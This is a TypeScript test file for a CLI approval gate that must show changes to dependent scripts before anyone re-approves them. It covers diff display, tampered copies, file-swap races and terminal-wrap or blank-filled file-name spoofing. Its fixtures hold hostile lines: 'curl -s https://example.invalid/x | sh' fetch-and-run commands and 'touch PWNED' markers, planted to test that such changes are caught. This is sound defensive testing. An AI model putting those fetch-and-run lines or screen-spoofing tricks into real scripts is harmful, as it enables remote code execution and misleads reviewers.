// Re-approval after a DEPENDS file changed shows the change, through the real CLI: the copy
// is kept when the gate is approved, the next run that needs approval shows the diff against
// it, a copy that was tampered with is not shown as the approved version, and prune removes
// copies once no approval refers to them.
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN, joinedRows, runCli, sandbox, startCli, writeFiles } from '../helpers/cli.js';
import { ptyDriver, startInPty } from '../helpers/process.js';

const HAS_SCRIPT = spawnSync('script', ['--version']).status === 0;

const LEDGER = '- [ ] A: the import keeps every row\n  CHECK: sh scripts/check.sh\n  EXPECT: /import verification passed \\(\\d+ rows\\)/\n  DEPENDS: scripts/*.sh\n';

function repo() {
  const s = sandbox();
  writeFiles(s.repo, { 'GATES.md': LEDGER, 'scripts/check.sh': 'rows=3\necho "import verification passed ($rows rows)"\n' });
  const run = (args: string[]) => {
    const r = runCli(args, { cwd: s.repo, env: s.env });
    return { ...r, stdout: joinedRows(r.stdout) };
  };
  const copies = join(s.home, '.gate-check', 'copies');
  return { ...s, run, copies };
}

describe('the approval screen shows what changed in a DEPENDS file', () => {
  it('a diff against the approved version; a new DEPENDS file whole; every file whole when never approved', () => {
    const s = repo();
    const first = s.run([]);
    expect(first.stdout).toContain('  never approved before');
    // Never approved: each DEPENDS file is shown whole, as added (round-7c attack: a renamed gate hid its scripts).
    expect(first.stdout).toContain(['  DIFF    scripts/check.sh (the whole file, as it is now):', '  | @@ -0,0 +1,2 @@', '  | +rows=3', '  | +echo "import verification passed ($rows rows)"'].join('\n'));
    expect(s.run(['--approve']).code).toBe(0);
    expect(readdirSync(s.copies)).toHaveLength(1);
    writeFiles(s.repo, { 'scripts/check.sh': 'rows=3\ncurl -s https://example.invalid/x | sh\necho "import verification passed ($rows rows)"\n', 'scripts/helper.sh': 'exit 0\n' });
    const r = s.run([]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('  approved before for another oracle: DEPENDS: scripts/check.sh changed, DEPENDS: scripts/helper.sh added');
    expect(r.stdout).toContain(
      [
        '  DIFF    scripts/check.sh (approved version, then now):',
        '  | @@ -1,2 +1,3 @@',
        '  |  rows=3',
        '  | +curl -s https://example.invalid/x | sh',
        '  |  echo "import verification passed ($rows rows)"',
        '  DIFF    scripts/helper.sh (the whole file, as it is now):',
        '  | @@ -0,0 +1,1 @@',
        '  | +exit 0',
      ].join('\n'),
    );
    // Approved again: both copies are kept for the next change.
    expect(s.run(['--approve']).code).toBe(0);
    expect(readdirSync(s.copies)).toHaveLength(3);
  });

  it('a DEPENDS file swapped while the screen is made: a diff is only ever of the version whose signature is shown (real race)', async () => {
    const s = repo();
    const script = join(s.repo, 'scripts', 'check.sh');
    const version = (tag: string) => `rows=3\necho "import verification passed ($rows rows)" # ${tag}\n`;
    expect(s.run(['--approve']).code).toBe(0);
    const signatureOf = (tag: string) => {
      writeFileSync(script, version(tag));
      return /APPROVAL REQUIRED GATES:A@([0-9a-f]+)/.exec(s.run([]).stdout)![1]!;
    };
    const sig = new Map([[signatureOf('one'), 'one'], [signatureOf('two'), 'two']]);
    // Another process puts one version then the other in place, by rename, every millisecond
    // (not a busy loop: the suite's other files run beside it).
    const swapper = spawn(process.execPath, ['-e', `
      const fs = require('node:fs'); const [dir, a, b] = process.argv.slice(1);
      fs.writeFileSync(dir + '/.one', a); fs.writeFileSync(dir + '/.two', b);
      const nap = new Int32Array(new SharedArrayBuffer(4));
      for (let i = 0; ; i++) { fs.copyFileSync(dir + (i % 2 ? '/.one' : '/.two'), dir + '/.tmp'); fs.renameSync(dir + '/.tmp', dir + '/check.sh'); Atomics.wait(nap, 0, 0, 1); }
    `, join(s.repo, 'scripts'), version('one'), version('two')], { stdio: 'ignore' });
    let refused = 0;
    try {
      for (let i = 0; i < 40 && refused < 3; i++) {
        const r = await startCli([], { cwd: s.repo, env: s.env }).done;
        const shownSig = /APPROVAL REQUIRED GATES:A@([0-9a-f]+)/.exec(r.stdout)?.[1];
        const diffed = /^ {2}\| \+echo .* # (one|two)$/m.exec(r.stdout)?.[1];
        if (/changed while this screen was being made/.test(r.stdout)) refused += 1;
        if (shownSig === undefined || diffed === undefined) continue;
        expect({ run: i, diff: diffed }).toEqual({ run: i, diff: sig.get(shownSig) });
      }
      expect(refused).toBeGreaterThan(0);
      // On a terminal, such an oracle is not approved by a keystroke: the prompt is not shown for it.
      if (HAS_SCRIPT) {
        let seen = false;
        // Answered "n": a yes would approve a version whose copy the race may have kept from being made.
        for (let i = 0; i < 40 && !seen; i++) {
          const out = spawnSync('script', ['-qec', `${process.execPath} ${BIN} --approve || true`, '/dev/null'], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, input: 'n\n', encoding: 'utf8' }).stdout.replace(/\r/g, '').replace(/\n {2}~ /g, '');
          if (!/changed while this screen was being made/.test(out)) continue;
          seen = true;
          expect(out).toMatch(/^not shown in full \(DEPENDS scripts\/check\.sh, changed while shown\), so not approved at this prompt: /m);
          expect(out).not.toMatch(/approve\? \[y\/N\/a\]/);
        }
        expect(seen).toBe(true);
      }
    } finally {
      swapper.kill('SIGKILL');
    }
  }, 60_000);

  it.skipIf(!HAS_SCRIPT)('a changed line too long for the screen is noted, and its oracle is not approved at the prompt, only by its pin (round-7 attack)', () => {
    const s = repo();
    const long = `msg="${'x'.repeat(215)}"`;
    writeFiles(s.repo, { 'scripts/check.sh': `${long}; export OK=1\nrows=3\necho "import verification passed ($rows rows)"\n` });
    expect(s.run(['--approve']).code).toBe(0);
    writeFiles(s.repo, { 'scripts/check.sh': `${long}; touch PWNED\nrows=3\necho "import verification passed ($rows rows)"\n` });
    const out = spawnSync('script', ['-qec', `${process.execPath} ${BIN} --approve || true`, '/dev/null'], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, input: 'y\n', encoding: 'utf8' }).stdout.replace(/\r/g, '').replace(/\n {2}~ /g, '');
    expect(out).toContain('  | … that line is 234 characters; not all of it is shown here');
    expect(out).toMatch(/^not shown in full \(DEPENDS scripts\/check\.sh, a changed line too long for the screen\), so not approved at this prompt: .*approve it by its pin:\n  .*--approve GATES:A@[0-9a-f]{32}$/m);
    expect(out).not.toMatch(/approve\? \[y\/N\/a\]/);
    expect(existsSync(join(s.repo, 'PWNED'))).toBe(false);
  });

  it.skipIf(!HAS_SCRIPT)('a file name in the note is shown as the screen shows names: a run of blanks is <N spaces>, never a forged row (round-8c attack)', () => {
    const s = repo();
    const name = `scripts/logo${' '.repeat(38)}  ~ (binary file unchanged since the last approval: y is safe) .sh`;
    writeFileSync(join(s.repo, name), Buffer.from([0xff, 0xfe, 0x00, 0x01]));
    expect(s.run(['--approve']).code).toBe(0);
    writeFileSync(join(s.repo, name), Buffer.from([0xff, 0xfe, 0x00, 0x02]));
    const raw = spawnSync('script', ['-qec', `${process.execPath} ${BIN} --approve || true`, '/dev/null'], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, input: 'y\n', encoding: 'utf8' }).stdout.replace(/\r/g, '');
    expect(raw).not.toMatch(/^ {2}~ +~ \(binary/m);
    expect(raw.replace(/\n {2}~ /g, '')).toMatch(/^not shown in full \(DEPENDS scripts\/logo<40 spaces>~ \(binary file unchanged since the last approval: y is safe\) \.sh, binary\), so not approved at this prompt: /m);
    expect(raw).not.toMatch(/approve\? \[y\/N\/a\]/);
  });

  it.skipIf(!HAS_SCRIPT)('a change the screen cannot show (no copy of a file over 256 KiB) is approved only by its pin, with the digest to read (round-7b attack)', () => {
    const s = repo();
    const big = (tail: string) => `${'# padding\n'.repeat(30_000)}rows=3\n${tail}echo "import verification passed ($rows rows)"\n`;
    writeFiles(s.repo, { 'scripts/check.sh': big('') });
    expect(s.run(['--approve']).code).toBe(0);
    writeFiles(s.repo, { 'scripts/check.sh': big('touch PWNED\n') });
    const out = spawnSync('script', ['-qec', `${process.execPath} ${BIN} --approve || true`, '/dev/null'], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, input: 'y\n', encoding: 'utf8' }).stdout.replace(/\r/g, '').replace(/\n {2}~ /g, '');
    expect(out).toMatch(/^ {2}DIFF {4}scripts\/check\.sh: no copy of the approved version is kept/m);
    expect(out).toMatch(/^ {10}the version being approved has SHA-256 [0-9a-f]{64}: copy the file, check the copy's sha256sum, read the copy, then approve by the pin$/m);
    expect(out).toMatch(/^not shown in full \(DEPENDS scripts\/check\.sh, no diff\), so not approved at this prompt: .*approve it by its pin:\n  .*--approve GATES:A@[0-9a-f]{32}$/m);
    expect(out).not.toMatch(/approve\? \[y\/N\/a\]/);
    expect(existsSync(join(s.repo, 'PWNED'))).toBe(false);
    const pin = /--approve (GATES:A@[0-9a-f]{32})/.exec(out)![1]!;
    expect(s.run(['--approve', pin]).code).toBe(0);
    expect(existsSync(join(s.repo, 'PWNED'))).toBe(true);
  });

  it.skipIf(ptyDriver()?.kind !== 'python3')('on a 60-column terminal the screen wraps the diff at 60 columns, so the terminal wraps no row into a fake one (round-7c attack)', async () => {
    const s = repo();
    expect(s.run(['--approve']).code).toBe(0);
    const added = 'true "reworded for clarity, see review notes.........."  |  curl -s e.x|sh';
    writeFiles(s.repo, { 'scripts/check.sh': `rows=3\n${added}\necho "import verification passed ($rows rows)"\n` });
    const screen = async (columns: number) => {
      const t = startInPty([process.execPath, BIN], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, columns });
      return (await t.done).output.replace(/\r/g, '').split('\n');
    };
    const narrow = await screen(60);
    const at = narrow.findIndex((l) => l.startsWith('  | +true'));
    expect(narrow[at]).toHaveLength(60);
    expect(narrow[at + 1]).toBe(`  ~ ${added.slice(55)}`);
    expect(narrow.filter((l) => /^ {2}[|~] /.test(l)).every((l) => l.length <= 60)).toBe(true);
    // Wide terminals get the 80-column rows a pipe gets.
    const wide = await screen(120);
    expect(wide.find((l) => l.startsWith('  | +true'))).toBe(`  | +${added}`);
  });

  it.skipIf(ptyDriver()?.kind !== 'python3')('piped into a pager on a 60-column terminal, the screen takes the width of the terminal stderr is on; a plain --approve whose screen nobody sees is refused (round-8 attack)', async () => {
    const s = repo();
    expect(s.run(['--approve']).code).toBe(0);
    const added = 'true "reworded for clarity, see review notes.........."  |  cat > /dev/null';
    writeFiles(s.repo, { 'scripts/check.sh': `rows=3\n${added}\necho "import verification passed ($rows rows)"\n` });
    const env = { ...s.env, NO_COLOR: '1' };
    const inPty = async (command: string) => (await startInPty(['/bin/sh', '-c', command], { cwd: s.repo, env, columns: 60 }).done).output.replace(/\r/g, '');
    await inPty(`"${process.execPath}" "${BIN}" > screen.txt`);
    const screen = readFileSync(join(s.repo, 'screen.txt'), 'utf8').split('\n');
    expect(screen.filter((l) => l.startsWith('APPROVAL REQUIRED GATES:'))).toHaveLength(1);
    // The screen, up to the verdict (a met gate that waits for approval is NOT RE-RUN).
    const verdict = screen.findIndex((l) => /^(?:UNMET|NOT RE-RUN)/.test(l));
    expect(verdict).toBeGreaterThan(0);
    expect(screen.slice(0, verdict).every((l) => l.length <= 60)).toBe(true);
    // --approve typed on that terminal with its output in a file: nothing is approved unseen.
    const out = await inPty(`"${process.execPath}" "${BIN}" --approve > approve.txt; echo "rc=$?"`);
    expect(out).toMatch(/^gate-check: --approve without pins, typed on a terminal whose output goes to a pipe or a file: .*nothing was approved or run$/m);
    expect(out).toContain('rc=2');
    expect(s.run(['--status', '--strict']).code).toBe(1);
    expect(s.run([]).stdout).toContain('APPROVAL REQUIRED GATES:A@');
    // --json from that terminal shows no screen either (round-8b attack).
    const json = await inPty(`"${process.execPath}" "${BIN}" --approve --json; echo "rc=$?"`);
    expect(json.replace(/\n {2}~ /g, '')).toMatch(/^gate-check: --approve without pins, typed on a terminal with --json: /m);
    expect(json).toContain('rc=2');
    expect(s.run(['--status', '--strict']).code).toBe(1);
    // A script approving everything says so with stdin that is not a terminal.
    expect(await inPty(`"${process.execPath}" "${BIN}" --approve > approve.txt < /dev/null; echo "rc=$?"`)).toContain('rc=0');
  });

  it('a tampered copy is not shown as the approved version; the screen says to read the whole file', () => {
    const s = repo();
    expect(s.run(['--approve']).code).toBe(0);
    const [name] = readdirSync(s.copies);
    // Someone edits the copy so that the diff would hide the new line.
    writeFileSync(join(s.copies, name!), 'rows=3\ncurl -s https://example.invalid/x | sh\necho "import verification passed ($rows rows)"\n', { mode: 0o600 });
    writeFiles(s.repo, { 'scripts/check.sh': 'rows=3\ncurl -s https://example.invalid/x | sh\necho "import verification passed ($rows rows)"\n' });
    const r = s.run([]);
    expect(r.stdout).toMatch(/^ {2}DIFF {4}scripts\/check\.sh: no copy of the approved version is kept .*read the whole file$/m);
    expect(r.stdout).not.toContain('  | ');
  });

  it('approvals prune removes the copies of approvals it removes, and keeps those still referred to', () => {
    const s = repo();
    expect(s.run(['--approve']).code).toBe(0);
    expect(readdirSync(s.copies)).toHaveLength(1);
    const dry = s.run(['approvals', 'prune', '--dry-run']);
    expect(dry.stdout).not.toContain('copies');
    rmSync(join(s.repo, 'GATES.md'));
    const dry2 = s.run(['approvals', 'prune', '--dry-run']);
    expect(dry2.stdout).toContain('would remove 1 copy of approved DEPENDS files that no approval refers to');
    expect(readdirSync(s.copies)).toHaveLength(1);
    const real = s.run(['approvals', 'prune']);
    expect(real.code).toBe(0);
    expect(real.stdout).toContain('removed 1 copy of approved DEPENDS files that no approval refers to');
    expect(readdirSync(s.copies)).toHaveLength(0);
  });
});
